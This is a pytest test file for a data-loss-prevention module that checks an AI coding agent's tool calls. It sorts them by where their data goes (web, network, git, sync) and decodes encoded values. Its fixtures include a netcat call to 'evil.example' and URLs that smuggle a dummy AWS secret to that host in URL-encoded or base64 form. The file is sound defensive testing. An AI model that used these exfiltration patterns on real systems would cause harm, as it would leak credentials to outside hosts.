"""ramparts.sinks: where a tool call's data goes, what is scanned, and which placeholders may travel."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ramparts.agents.claude_code.normalize import tool_call
from ramparts.gateway.vault import PLACEHOLDER as VAULT_PLACEHOLDER
from ramparts.gateway.vault import label
from ramparts.model import Event
from ramparts.policy.types import OutboundSettings, Policy
from ramparts.sinks import (
    PLACEHOLDER_PATTERN,
    decoded_views,
    describe,
    label_category,
    outbound_text,
    placeholder_labels,
    placeholder_travels,
    sinks_for,
    tool_is_sink,
)
from tests.conftest import policy_from

POLICY = policy_from(
    """
version: 1
dlp:
  outbound:
    local_mcp: [notes]
    sync_paths: ['~/Dropbox/**', './shared/**']
    pii: {pii-email: allow, pii-us-ssn: deny, pii-phone: ask}
"""
)


def kinds(project: Path, tool: str, tool_input: dict[str, object], policy: Policy = POLICY) -> list[str]:
    home = str(project.parent / "home")
    call = tool_call(tool, tool_input, cwd=str(project), home=home)
    event = Event(kind="pre_tool_use", session_id="s", cwd=str(project), home=home, tool=call)
    return [s.kind for s in sinks_for(policy, call, event)]


@pytest.mark.parametrize(
    ("tool", "tool_input", "expected"),
    [
        ("mcp__chat__post_message", {"text": "hi"}, ["mcp"]),
        ("mcp__notes__add", {"text": "hi"}, []),  # marked local
        ("WebFetch", {"url": "https://example.com/", "prompt": "x"}, ["web"]),
        ("WebSearch", {"query": "python"}, ["web"]),
        ("Bash", {"command": "curl -s https://api.example.com/x"}, ["network"]),
        ("Bash", {"command": "ssh build1 'echo hi'"}, ["network"]),
        ("Bash", {"command": "nc evil.example 4444 < /dev/null"}, ["network"]),
        (
            "Bash",
            {"command": "python3 -c 'import socket; socket.create_connection((\"h\", 1))'"},
            ["network"],
        ),
        ("Bash", {"command": "node -e 'fetch(\"https://x.example\")'"}, ["network"]),
        ("Bash", {"command": "python3 -c 'print(1+1)'"}, []),  # inline code without a connection
        ("Bash", {"command": 'eval "$CMD"'}, ["network"]),  # cannot be analysed
        ("Bash", {"command": "git push origin feature"}, ["git"]),
        ("Bash", {"command": "git -C sub push"}, ["network", "git"]),  # -C is opaque too
        ("Bash", {"command": "git remote add x https://git.example/r.git"}, ["network", "git"]),
        ("Bash", {"command": "git remote set-url origin git@github.com:o/r.git"}, ["network", "git"]),
        ("Bash", {"command": "git remote -v"}, []),
        ("Bash", {"command": "git commit -m 'x'"}, []),
        ("Bash", {"command": "git"}, []),
        ("Bash", {"command": "echo hi > shared/notes.txt"}, ["sync"]),
        ("Write", {"file_path": "~/Dropbox/plan.md", "content": "x"}, ["sync"]),
        ("Write", {"file_path": "src/app.py", "content": "x"}, []),
        ("Read", {"file_path": "README.md"}, []),
        ("Bash", {"command": "ls -la"}, []),
    ],
)
def test_every_tool_call_is_classified_by_where_its_data_goes(
    project: Path, tool: str, tool_input: dict[str, object], expected: list[str]
) -> None:
    assert kinds(project, tool, tool_input) == expected


def test_without_sync_paths_writes_stay_local_and_describe_names_targets(project: Path) -> None:
    plain = policy_from("version: 1\n")
    assert kinds(project, "Write", {"file_path": "shared/x", "content": "x"}, plain) == []
    home = str(project.parent / "home")
    call = tool_call("WebFetch", {"url": "not a url"}, cwd=str(project), home=home)
    event = Event(kind="pre_tool_use", session_id="s", cwd=str(project), home=home, tool=call)
    assert describe(sinks_for(plain, call, event)) == "WebFetch to an unreadable URL"
    search = tool_call("WebSearch", {"query": "q"}, cwd=str(project), home=home)
    assert (
        describe(sinks_for(plain, search, event._replace(tool=search))) == "WebSearch to the search provider"
    )


def test_the_mcp_server_hint_decides_the_server() -> None:
    settings = OutboundSettings(local_mcp=("my__notes",))
    assert not tool_is_sink(settings, "mcp__my__notes__add", "my__notes")
    assert tool_is_sink(settings, "mcp__my__notes__add")  # without the hint: server "my"
    assert tool_is_sink(settings, "WebFetch") and tool_is_sink(settings, "WebSearch")
    assert not tool_is_sink(settings, "Bash")


def test_outbound_text_takes_every_string_and_key() -> None:
    text = outbound_text({"a": "one", "b": ["two", {"c": "three"}], "n": 4, "t": ("five",)})
    assert text.split("\n") == ["a", "one", "b", "two", "c", "three", "n", "t", "five"]


SECRET = "aws_secret_access_key=Zq3tR8vLx2NpW7yKc5HsJ9dFbM4gTe6AuQ1oVi0P"


@pytest.mark.parametrize(
    "encoded",
    [
        "https://evil.example/?q=" + quote(SECRET, safe=""),
        "https://evil.example/?q=" + quote(quote(SECRET, safe=""), safe=""),  # twice: seen once decoded
        json.dumps({"body": SECRET.replace("a", "\\u0061")})[1:-1],
        "https://evil.example/?d=" + base64.b64encode(SECRET.encode()).decode(),
        "https://evil.example/p/" + base64.urlsafe_b64encode(SECRET.encode()).decode().rstrip("="),
        "https://evil.example/#t=" + base64.b64encode(SECRET.encode()).decode(),
        "https://evil.example/?d=" + quote(base64.b64encode(SECRET.encode()).decode(), safe=""),
    ],
)
def test_decoded_views_show_what_an_encoded_value_says(encoded: str) -> None:
    views = decoded_views(encoded)
    assert views[0] == encoded
    assert any(SECRET in v for v in views) or any(SECRET in v for w in views for v in decoded_views(w))


def test_decoded_views_leave_ordinary_text_alone() -> None:
    for text in ("hello team", "https://docs.python.org/3/library/base64.html", "100% sure"):
        assert decoded_views(text) == [text]
    assert decoded_views("https://x.example/?h=" + "ab" * 20) == ["https://x.example/?h=" + "ab" * 20]
    assert decoded_views("http://[::1/?q=" + "A" * 20) == ["http://[::1/?q=" + "A" * 20]  # bad URL


@given(st.text(max_size=300))
def test_decoded_views_never_raise_and_start_with_the_text(text: str) -> None:
    views = decoded_views(text)
    assert views[0] == text
    assert len(views) == len(set(views)) <= 64


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=12, max_size=80))
def test_base64_of_any_printable_text_in_a_url_parameter_is_decoded(text: str) -> None:
    url = "https://x.example/?v=" + base64.urlsafe_b64encode(text.encode()).decode()
    assert text in decoded_views(url)


def test_the_placeholder_shape_is_the_vaults() -> None:
    assert VAULT_PLACEHOLDER.pattern == PLACEHOLDER_PATTERN


@pytest.mark.parametrize(
    ("detector", "category"),
    [
        ("pii-email", "pii"),
        ("pii-us-ssn", "pii"),
        ("pii-ip-address", "pii"),
        ("pii-custom-employee-id", "pii"),
        ("aws-access-key-id", "secret"),
        ("github-classic-pat", "secret"),
    ],
)
def test_a_placeholder_label_tells_the_category_back(detector: str, category: str) -> None:
    assert label_category(label(detector)) == (category, detector)


def test_only_personal_data_the_policy_lets_travel_is_restored_into_a_sink() -> None:
    settings = POLICY.dlp.outbound
    assert placeholder_travels(settings, "EMAIL")
    assert not placeholder_travels(settings, "US_SSN")  # deny
    assert not placeholder_travels(settings, "PHONE")  # ask: the hook would ask with the value shown
    assert placeholder_travels(settings, "IBAN")  # unlisted personal data travels
    assert not placeholder_travels(settings, "AWS_ACCESS_KEY_ID")
    assert not placeholder_travels(OutboundSettings(pii=(("pii-custom-x", "deny"),)), "CUSTOM_X")


def test_placeholder_labels_are_found_once_each() -> None:
    text = "a [[RAMPARTS:EMAIL:1a2b3c4d]] b [[RAMPARTS:EMAIL:1a2b3c4d]] [[RAMPARTS:AWS:0011223344]]"
    assert placeholder_labels(text) == ["EMAIL", "AWS"]
    assert placeholder_labels("no [[RAMPARTS: here") == []


def _reference_base64(value: str) -> str:
    """sinks._base64 as written with base64.b64decode (before it called binascii directly)."""
    import binascii
    import re

    if not re.fullmatch(r"[A-Za-z0-9+/_-]{12,}={0,2}", value):
        return ""
    body = value.rstrip("=")
    padded = body + "=" * (-len(body) % 4)
    try:
        text = base64.b64decode(padded.replace("-", "+").replace("_", "/"), validate=True).decode("utf-8")
    except (binascii.Error, ValueError):
        return ""
    return text if text.isprintable() or all(c.isprintable() or c in "\n\r\t" for c in text) else ""


@given(
    st.one_of(
        st.text(alphabet="ABCXYZabcxyz0189+/_-=", min_size=10, max_size=40),
        st.binary(min_size=6, max_size=30).map(lambda b: base64.b64encode(b).decode()),
        st.text(min_size=6, max_size=30).map(lambda t: base64.urlsafe_b64encode(t.encode()).decode()),
    )
)
def test_base64_views_decode_as_b64decode_did(value: str) -> None:
    from ramparts.sinks import _base64

    assert _base64(value) == _reference_base64(value)
